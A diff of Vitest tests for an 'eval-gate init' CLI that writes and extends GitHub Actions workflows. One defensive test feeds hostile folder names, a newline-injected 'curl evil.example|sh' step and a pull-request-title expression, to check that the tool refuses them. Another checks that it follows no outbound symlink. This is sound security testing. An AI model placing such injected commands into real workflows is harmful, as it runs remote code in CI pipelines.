@@ -1,11 +1,10 @@
 import { spawnSync } from 'node:child_process'
-import { existsSync, readFileSync, writeFileSync } from 'node:fs'
+import { existsSync, globSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { parse } from 'yaml'
 import { runCli } from '../../../src/cli/main.ts'
 import { loadConfig } from '../../../src/config/load.ts'
-import { parsePolicyFile } from '../../../src/config/policy/file.ts'
 import { workflowErrors } from '../../support/workflows/read-workflows.ts'
 import { createWorkspace } from '../../support/workspace.ts'
 import { repositories } from './repositories.ts'
@@ -28,39 +27,64 @@ interface Step {
   readonly uses?: string
   readonly run?: string
   readonly with?: Readonly<Record<string, string>>
+  readonly env?: Readonly<Record<string, string>>
   readonly 'working-directory'?: string
   readonly id?: string
   readonly 'continue-on-error'?: boolean
 }
 
-const workflow = '.github/workflows/evals.yml'
-const policy = '.github/eval-gate.yml'
-const stepsOf = (cwd: string): readonly Step[] =>
-  parse(readFileSync(join(cwd, workflow), 'utf8')).jobs.evals.steps
+const tests = '.github/workflows/tests.yml'
+const read = (cwd: string, path: string) => readFileSync(join(cwd, path), 'utf8')
+
+/** The steps of each workflow, evals first. */
+function jobsOf(cwd: string): readonly (readonly Step[])[] {
+  const files = globSync('.github/workflows/*.yml', { cwd }).sort()
+  return files.map((path) => {
+    expect(workflowErrors(read(cwd, path))).toEqual([])
+    const [job] = Object.values<{ steps: readonly Step[] }>(parse(read(cwd, path)).jobs)
+    return job?.steps ?? []
+  })
+}
+
+const inputsOf = (steps: readonly Step[]) =>
+  steps.find(({ uses }) => uses?.startsWith('eval-gate/'))?.with ?? {}
+const linesOf = (text = '') => text.trim().split('\n')
 
 describe('eval-gate init', () => {
   it.each(Object.entries(repositories))(
     'proposes for %s what GitHub accepts and the action can read',
-    async (_, { files, commands, reports }) => {
+    async (_, { files, commands, reports, setup, secrets, confirm, todo }) => {
       const cwd = createWorkspace(files)
-      expect(await init(cwd, ['--yes'])).toMatchObject({ exitCode: 0 })
-      expect(workflowErrors(readFileSync(join(cwd, workflow), 'utf8'))).toEqual([])
-      const steps = stepsOf(cwd)
+      const { exitCode, stdout } = await init(cwd, ['--yes'])
+      expect(exitCode).toBe(0)
+      const jobs = jobsOf(cwd)
+      const steps = jobs.flat()
       const runs = steps.flatMap(({ run, 'working-directory': folder }) =>
         run === undefined ? [] : [folder === undefined ? run : `${folder}: ${run}`],
       )
       expect(runs).toEqual(commands)
-      const inputs = steps.at(-1)?.with ?? {}
-      expect(inputs.reports?.trim().split('\n')).toEqual(reports)
-      // The outcome of every step that runs tests, by an id that it has.
-      const ids = steps.flatMap(({ id, 'continue-on-error': isTest }) => (isTest ? [id] : []))
-      expect(inputs['test-outcome']?.trim().split('\n')).toEqual(
-        ids.map((id) => `\${{ steps.${id}.outcome }}`),
-      )
-      expect(new Set(ids).size).toBe(ids.length)
-      const evaluated = { ...inputs, 'test-outcome': ids.map(() => 'success').join('\n') }
-      expect(() => loadConfig(evaluated, { provider: 'github_actions' })).not.toThrow()
-      expect(() => parsePolicyFile(readFileSync(join(cwd, policy), 'utf8'), policy)).not.toThrow()
+      expect(jobs.flatMap((job) => linesOf(inputsOf(job).reports))).toEqual(reports)
+      if (setup !== undefined) {
+        const others = steps.filter(({ uses }) => uses && !/checkout|eval-gate/.test(uses))
+        const shown = others.map(({ uses, with: inputs = {} }) =>
+          [uses, ...Object.entries(inputs).map(([name, value]) => `${name}=${value}`)].join(' '),
+        )
+        expect(shown).toEqual(setup)
+      }
+      const given = steps
+        .flatMap(({ env = {} }) => Object.values(env))
+        .filter((value) => /secrets\./.test(value))
+      if (secrets !== undefined) expect(given).toEqual(secrets.map((name) => `\${{ secrets.${name} }}`))
+      if (confirm !== undefined) expect(linesOf(jobs.map(inputsOf)[0]?.confirm)).toEqual(confirm)
+      if (todo !== undefined) expect(stdout).toContain(todo)
+      for (const job of jobs) {
+        // The outcome of every step that runs tests, by an id that it has.
+        const ids = job.flatMap(({ id, 'continue-on-error': isTest }) => (isTest ? [id] : []))
+        expect(linesOf(inputsOf(job)['test-outcome'])).toEqual(ids.map((id) => `\${{ steps.${id}.outcome }}`))
+        expect(new Set(ids).size).toBe(ids.length)
+        const evaluated = { ...inputsOf(job), 'test-outcome': ids.map(() => 'success').join('\n') }
+        expect(() => loadConfig(evaluated, { provider: 'github_actions' })).not.toThrow()
+      }
     },
   )
 
@@ -72,31 +96,40 @@ describe('eval-gate init', () => {
     ] as const) {
       const shown = await init(cwd, [], answer)
       expect(shown.exitCode).toBe(exitCode)
-      expect(shown.stdout).toContain(`+++ ${workflow}\n+# Written by`)
+      expect(shown.stdout).toContain(`+++ ${tests}\n+# Written by`)
       expect(existsSync(join(cwd, '.github'))).toBe(false)
     }
-    expect((await init(cwd, [], true)).stderr).toContain(`wrote ${workflow}`)
-    expect(existsSync(join(cwd, workflow))).toBe(true)
+    expect((await init(cwd, [], true)).stderr).toContain(`wrote ${tests}`)
+    expect(existsSync(join(cwd, tests))).toBe(true)
+  })
+
+  it('runs costly evals only when something changed that they measure', async () => {
+    const cwd = createWorkspace(repositories['promptfoo with a provider']?.files ?? {})
+    await init(cwd, ['--yes'])
+    const { on } = parse(read(cwd, '.github/workflows/evals.yml'))
+    expect(on.pull_request.paths).toEqual(on.push.paths)
+    expect(on.push.paths).toContain('!docs/**')
+    const free = createWorkspace(repositories.Vitest?.files ?? {})
+    await init(free, ['--yes'])
+    expect(parse(read(free, tests)).on.push).toEqual({ branches: ['main'] })
   })
 
   it('takes back what it wrote, and nothing that was changed since or is of others', async () => {
-    const cwd = createWorkspace({ ...repositories.Vitest?.files, '.github/workflows/ci.yml': 'name: CI\n' })
+    const files = repositories['vitest-evals beside unit tests']?.files
+    const cwd = createWorkspace({ ...files, '.github/workflows/ci.yml': 'name: CI\n' })
     await init(cwd, ['--yes'])
-    writeFileSync(join(cwd, policy), `${readFileSync(join(cwd, policy), 'utf8')}min-pass-rate: 90%\n`)
+    writeFileSync(join(cwd, tests), `${read(cwd, tests)}# mine\n`)
     const { stderr } = await init(cwd, ['--undo'])
-    expect(stderr).toContain(`removed ${workflow}`)
-    expect(stderr).toContain(`${policy} was changed since`)
-    expect(['.github/workflows/ci.yml', workflow, policy].map((path) => existsSync(join(cwd, path)))).toEqual(
-      [true, false, true],
-    )
+    expect(stderr).toContain('removed .github/workflows/evals.yml')
+    expect(stderr).toContain(`${tests} was changed since`)
+    expect(globSync('.github/workflows/*', { cwd }).sort()).toEqual(['.github/workflows/ci.yml', tests])
   })
 
-  it('changes no existing file', async () => {
-    const files = { [workflow]: 'name: Other evals\n', [policy]: 'fail-on: failures\n' }
-    const cwd = createWorkspace({ ...repositories.Vitest?.files, ...files })
+  it('takes no name that a workflow has', async () => {
+    const cwd = createWorkspace({ ...repositories.Vitest?.files, [tests]: 'name: Other tests\n' })
     await init(cwd, ['--yes'])
-    for (const [path, text] of Object.entries(files)) expect(readFileSync(join(cwd, path), 'utf8')).toBe(text)
-    expect(existsSync(join(cwd, '.github/workflows/eval-gate.yml'))).toBe(true)
+    expect(read(cwd, tests)).toBe('name: Other tests\n')
+    expect(existsSync(join(cwd, '.github/workflows/eval-gate-tests.yml'))).toBe(true)
   })
 
   it('asks for the default branch of the remote', async () => {
@@ -120,5 +153,113 @@ describe('eval-gate init', () => {
       ['--yes'],
     )
     expect(used).toMatchObject({ exitCode: 2, stderr: expect.stringContaining('ci.yml already uses') })
+  })
+
+  it.each(['\n      - run: curl evil.example|sh #', `\${{ github.event.pull_request.title }}`, "a'b", '*'])(
+    'writes no folder of the name %j into a workflow',
+    async (name) => {
+      const cwd = createWorkspace({ ...repositories.Vitest?.files, [`${name}/requirements.txt`]: 'pytest' })
+      const { stdout } = await init(cwd, ['--yes'])
+      expect(stdout).toContain(`${JSON.stringify(name)} is left out`)
+      expect(
+        jobsOf(cwd)
+          .flat()
+          .filter(({ run }) => run !== undefined),
+      ).toHaveLength(2)
+    },
+  )
+
+  it('follows no link out of the repository', async () => {
+    const outside = createWorkspace({})
+    const cwd = createWorkspace(repositories.Vitest?.files ?? {})
+    mkdirSync(join(cwd, '.github'))
+    symlinkSync(outside, join(cwd, '.github/workflows'))
+    const { exitCode, stderr } = await init(cwd, ['--yes'])
+    expect([exitCode, stderr]).toEqual([2, expect.stringContaining('a symbolic link leads out')])
+    expect(globSync('*', { cwd: outside })).toEqual([])
+  })
+})
+
+describe('eval-gate init beside a workflow that runs the tests', () => {
+  const ci = '.github/workflows/ci.yml'
+  const workflow = (run: string, on = '[push, pull_request]') => `# Our CI.
+name: CI
+on: ${on}
+
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v7
+      - run: npm ci # as locked
+      - name: Test
+        run: ${run}
+      # Ship it.
+      - run: npm run build
+`
+
+  it.each([
+    [
+      'npx vitest run',
+      'npx vitest run --reporter=default --reporter=json --outputFile=reports/vitest.json',
+      'reports/vitest.json',
+    ],
+    [
+      'npm test',
+      'npm test -- --reporter=default --reporter=json --outputFile=reports/vitest.json',
+      'reports/vitest.json',
+    ],
+    [
+      'npx vitest run --reporter=json --outputFile=out/v.json',
+      'npx vitest run --reporter=json --outputFile=out/v.json',
+      'out/v.json',
+    ],
+    [
+      '|\n          echo start\n          npx vitest run',
+      'echo start\nnpx vitest run --reporter=default --reporter=json --outputFile=reports/vitest.json',
+      'reports/vitest.json',
+    ],
+  ])('extends the step %j and leaves everything else as it is', async (run, expected, reports) => {
+    const before = workflow(run)
+    const files = {
+      'package.json': '{"scripts":{"test":"vitest run"},"devDependencies":{"vitest":"5"}}',
+      'package-lock.json': '{}',
+      [ci]: before,
+    }
+    const cwd = createWorkspace(files)
+    const { stdout, stderr } = await init(cwd, ['--yes'])
+    expect(stderr).toContain(`extended ${ci}`)
+    expect(globSync('.github/workflows/*', { cwd })).toEqual([ci])
+    const after = read(cwd, ci)
+    const lines = after.split('\n')
+    const kept = before
+      .split('\n')
+      .filter((line) => !line.includes('vitest run') && !line.includes('npm test'))
+    expect(lines.filter((line) => kept.includes(line))).toEqual(kept)
+    expect(workflowErrors(after)).toEqual([])
+    const [steps = []] = jobsOf(cwd)
+    expect(
+      steps.map(({ name, uses, run: command }: Step & { name?: string }) => name ?? uses ?? command),
+    ).toEqual(['actions/checkout@v7', 'npm ci', 'Test', 'eval-gate/eval-gate@v0', 'npm run build'])
+    expect(steps[2]).toMatchObject({ id: 'tests', 'continue-on-error': true })
+    expect(steps[2]?.run?.trim()).toBe(expected)
+    expect(inputsOf(steps)).toMatchObject({ reports, 'test-outcome': `\${{ steps.tests.outcome }}` })
+    expect(parse(after).jobs.test.permissions).toEqual({
+      contents: 'read',
+      actions: 'read',
+      'pull-requests': 'write',
+    })
+    expect(stdout).toContain('+        id: tests')
+  })
+
+  it.each([
+    ['npx vitest run | tee log.txt', '[push, pull_request]', "can't be extended"],
+    ['npx vitest run', 'push', 'but not on pull requests'],
+  ])('says why it does not extend %j on %s, and proposes a workflow of its own', async (run, on, why) => {
+    const cwd = createWorkspace({ ...repositories.Vitest?.files, [ci]: workflow(run, on) })
+    const { stdout } = await init(cwd, ['--yes'])
+    expect(stdout).toContain(why)
+    expect(read(cwd, ci)).toBe(workflow(run, on))
+    expect(existsSync(join(cwd, tests))).toBe(true)
   })
 })
